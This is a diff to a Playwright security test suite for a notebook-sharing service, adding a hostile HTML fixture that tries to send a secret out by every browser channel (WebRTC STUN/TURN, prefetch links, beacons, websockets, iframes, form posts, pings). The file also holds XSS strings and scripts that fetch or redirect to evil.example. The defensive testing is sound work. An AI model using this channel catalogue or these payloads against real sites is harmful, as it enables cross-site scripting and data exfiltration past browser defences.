@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Iterator
 from typing import Any
 
+import httpx
 import pytest
 from playwright.sync_api import Page, expect
 
 from demo.stack import LocalStack
+from hubshare.testing.centre import wait_until
 from tests.helpers.browsers import Browsers, Person, shown
 from tests.helpers.hostile_content import PAYLOADS, SVG, code, notebook_of, text
 from tests.helpers.rendering import display
 from tests.helpers.sample import code_cell, markdown_cell, notebook, output, ran, write
+from tests.helpers.sinks import Sinks
 
 PROJECT = "alice/hostile"
 NAME = "<img src=x onerror=alert(1)>.md"
@@ -43,6 +47,91 @@ Promise.all([fetched("fetch", "/services/hubshare/api/v1/me"), fetched("elsewher
 """
 
 
+#: Every way to the network that a document may have; the ports are listened on.
+WAYS = """
+<button id="all-tried" onclick="location.href = at('navigation')"></button>
+<script>
+const ports = PORTS, at = (name, scheme = "http") => `${scheme}://127.0.0.1:${ports[name]}/${name}?secret`;
+const way = (act) => { try { act(); } catch (error) { console.debug(String(error)); } };
+const head = (tag, attributes, inside = "") => {
+  const made = document.createElement(tag);
+  Object.entries(attributes).forEach(([name, value]) => made.setAttribute(name, value));
+  made.textContent = inside;
+  document.head.append(made);
+};
+way(() => {
+  const turn = {urls: `turn:127.0.0.1:${ports.turn}?transport=tcp`, username: "secret", credential: "x"};
+  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${ports.stun}`}, turn]});
+  peer.createDataChannel("x");
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+});
+for (const name of ["preconnect", "prefetch", "prerender", "modulepreload", "manifest", "icon", "stylesheet"]) {
+  way(() => head("link", {rel: name, href: at(name), as: "script"}));
+}
+const rules = {source: "list", urls: [at("speculation")]};
+way(() => head("script", {type: "speculationrules"}, JSON.stringify({prefetch: [rules], prerender: [rules]})));
+way(() => { new Image().src = at("image"); });
+way(() => { new WebSocket(at("socket", "ws")); });
+way(() => { new EventSource(at("events")); });
+way(() => { new WebTransport(at("transport", "https")); });
+way(() => { new Worker(at("worker")); });
+way(() => { navigator.sendBeacon(at("beacon"), "secret"); });
+way(() => { fetch(at("fetch"), {mode: "no-cors"}).catch(() => 0); });
+way(() => { fetch(at("keepalive"), {mode: "no-cors", keepalive: true}).catch(() => 0); });
+way(() => { new FontFace("x", `url(${at("font")})`).load().catch(() => 0); });
+way(() => { new Audio(at("audio")).load(); });
+const body = (html) => document.body.insertAdjacentHTML("beforeend", html);
+way(() => { body(`<object data="${at("object")}"></object><embed src="${at("embed")}">`); });
+way(() => { body(`<svg><image href="${at("svg")}"/></svg><video poster="${at("poster")}">`); });
+way(() => { body(`<iframe src="${at("frame")}"></iframe>`); });
+way(() => {
+  const inner = document.createElement("iframe");
+  document.body.append(inner);
+  const peer = new inner.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${ports.stun}`}]});
+  peer.createDataChannel("x");
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+});
+way(() => {
+  body(`<a id="pinged" href="#x" ping="${at("ping")}">x</a>`);
+  document.getElementById("pinged").click();
+});
+way(() => {
+  body(`<form id="sent" method="post" action="${at("form")}" target="_blank"></form>`);
+  document.getElementById("sent").submit();
+});
+way(() => { open(at("window")); });
+// What would have been on its way is there by then: answers of this machine come at once.
+Promise.all([at("last"), at("last")].map((address) => fetch(address).catch(() => 0))).then(() => setTimeout(
+  () => { document.getElementById("all-tried").textContent = "all tried"; }, 500));
+</script>
+"""
+_DATAGRAMS = ("stun", "transport")
+_STREAMS = (
+    *("turn", "preconnect", "prefetch", "prerender", "modulepreload", "manifest", "icon", "stylesheet", "speculation"),
+    *("image", "socket", "events", "worker", "beacon", "fetch", "keepalive", "font", "audio", "object", "embed", "svg"),
+    *("poster", "frame", "ping", "form", "window", "last", "navigation"),
+)
+
+
+def ways(sinks: Sinks) -> str:
+    """A document that tries to reach them all."""
+    return WAYS.replace("PORTS", json.dumps(sinks.ports))
+
+
+@pytest.fixture(scope="module")
+def all_sinks() -> Iterator[Sinks]:
+    made = Sinks(_STREAMS, _DATAGRAMS)
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def sinks(all_sinks: Sinks) -> Sinks:
+    """Nobody has reached any."""
+    all_sinks.reached.clear()
+    return all_sinks
+
+
 def in_all_places(evil: str) -> list[dict[str, Any]]:
     """Cells with the payload wherever a page might show it."""
     error = {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]}
@@ -67,7 +156,7 @@ def in_all_places(evil: str) -> list[dict[str, Any]]:
 
 
 @pytest.fixture(scope="module")
-def hostile(stack: LocalStack) -> LocalStack:
+def hostile(stack: LocalStack, all_sinks: Sinks) -> LocalStack:
     """A project of which every file is an attack, in two versions."""
     folder = stack.home("alice") / "hostile"
     cells = [cell for evil in PAYLOADS for cell in in_all_places(evil)]
@@ -91,6 +180,7 @@ def hostile(stack: LocalStack) -> LocalStack:
                 "run()", output(application__javascript="alert(1); fetch('https://evil.example/').catch(() => 0)")
             ),
         ),
+        "all-ways.ipynb": notebook(code_cell("try()", output(text__html=ways(all_sinks), text__plain="x"))),
         "away.ipynb": notebook(
             code_cell("go()", output(text__html="<b>here</b><script>location.href = 'https://evil.example/'</script>"))
         ),
@@ -155,21 +245,14 @@ def test_raw_files_run_nothing(bob: Person, path: str) -> None:
     assert not bob.page.locator("#came").count(), "it was taken for a page"
 
 
-@pytest.mark.parametrize("framed", [True, False], ids=["in its frame", "by its own address"])
-def test_scripts_of_a_live_notebook_reach_nothing(bob: Person, framed: bool) -> None:
+def test_scripts_of_a_live_notebook_reach_nothing(bob: Person) -> None:
     bob.go(f"projects/{PROJECT}/files/latest/live.ipynb?view=live")
     live = bob.page.frame_locator("#live").locator("#came")
     expect(live).to_contain_text('"done"')
-    if not framed:
-        bob.go(f"projects/{PROJECT}/live/latest/live.ipynb")
-        live = bob.page.locator("#came")
-        expect(live).to_contain_text('"done"')
     expect(live).to_contain_text('"image"')
     came = json.loads(live.text_content() or "")
     assert came.pop("origin") == "null"
     assert came.pop("done") == "yes"
-    if not framed:  # what is above it is itself
-        came.pop("parent")
     wrong = {
         name: how for name, how in came.items() if how.startswith("got") and how not in ("got null", "got undefined")
     }
@@ -179,6 +262,58 @@ def test_scripts_of_a_live_notebook_reach_nothing(bob: Person, framed: bool) -> 
     assert "/hub/log" not in bob.page.url
     assert len(bob.context.pages) == 1
     assert bob.refused, "the browser says what it did not let it do"
+
+
+def test_scripts_of_a_live_notebook_reach_nobody_by_any_way_that_a_browser_has(bob: Person, sinks: Sinks) -> None:
+    bob.go(f"projects/{PROJECT}/files/latest/all-ways.ipynb")
+    shown(bob)
+    expect(bob.page.locator("#not-alone")).to_have_count(0)
+    bob.page.get_by_role("link", name="Run its scripts").click()
+    expect(bob.page.frame_locator("#live").locator("#all-tried")).to_have_text("all tried")
+    # The last of the ways: the frame goes elsewhere, and does not come to be there.
+    with bob.context.expect_event(
+        "console", lambda message: "frame-src" in message.text or "Allowlist" in message.text
+    ):
+        bob.page.frame_locator("#live").locator("#all-tried").click()
+    assert not sinks.reached
+    # It was asked for, and the browser has let none of it out.
+    bob.requested.clear()
+
+
+def test_the_ways_are_ways(bob: Person, sinks: Sinks) -> None:
+    """Where nothing keeps it from that, the same script reaches all: so the test above can fail."""
+    assert bob.context.browser
+    context = bob.context.browser.new_context()
+    page = context.new_page()
+    page.route("http://127.0.0.1/", lambda route: route.fulfill(body=ways(sinks), content_type="text/html"))
+    page.goto("http://127.0.0.1/")
+    wanted = {"stun", "turn", "socket", "image", "fetch", "beacon", "frame", "stylesheet"}
+    wait_until(lambda: wanted <= sinks.reached, "all are reached")
+    page.locator("#all-tried").click()
+    wait_until(lambda: "navigation" in sinks.reached, "the frame has gone elsewhere")
+    context.close()
+
+
+@pytest.mark.parametrize("told", [True, False], ids=["by a browser that says so", "by any other"])
+def test_a_live_notebook_runs_nothing_when_it_is_opened_by_itself(bob: Person, told: bool, hostile: LocalStack) -> None:
+    address = f"projects/{PROJECT}/live/latest/live.ipynb"
+    bob.go(f"projects/{PROJECT}/files/latest/live.ipynb?view=live")
+    expect(bob.page.frame_locator("#live").locator("#came")).to_contain_text('"done"')
+    if told:
+        bob.go(address)
+        assert bob.page.url.endswith("/files/latest/live.ipynb?view=live")
+        return
+    # What such a browser gets, as the service sends it.
+    cookies = {one["name"]: one["value"] for one in bob.context.cookies(hostile.service_url)}
+    answer = httpx.get(hostile.service_url + address, cookies=cookies)
+    assert 'id="came"' in answer.text
+    kept = {name: answer.headers[name] for name in ("content-type", "content-security-policy", "connection-allowlist")}
+    bob.page.route(f"**/{address}", lambda route: route.fulfill(body=answer.text, headers=kept))
+    before = len(bob.refused)
+    bob.page.goto(hostile.service_url + address, wait_until="commit")
+    assert bob.page.url.endswith(address)
+    wait_until(lambda: bob.page.evaluate("document.documentElement === null"), "it has taken itself away")
+    assert len(bob.refused) == before, "a script has tried something"
 
 
 def test_a_live_notebook_takes_its_frame_nowhere_else(bob: Person) -> None:
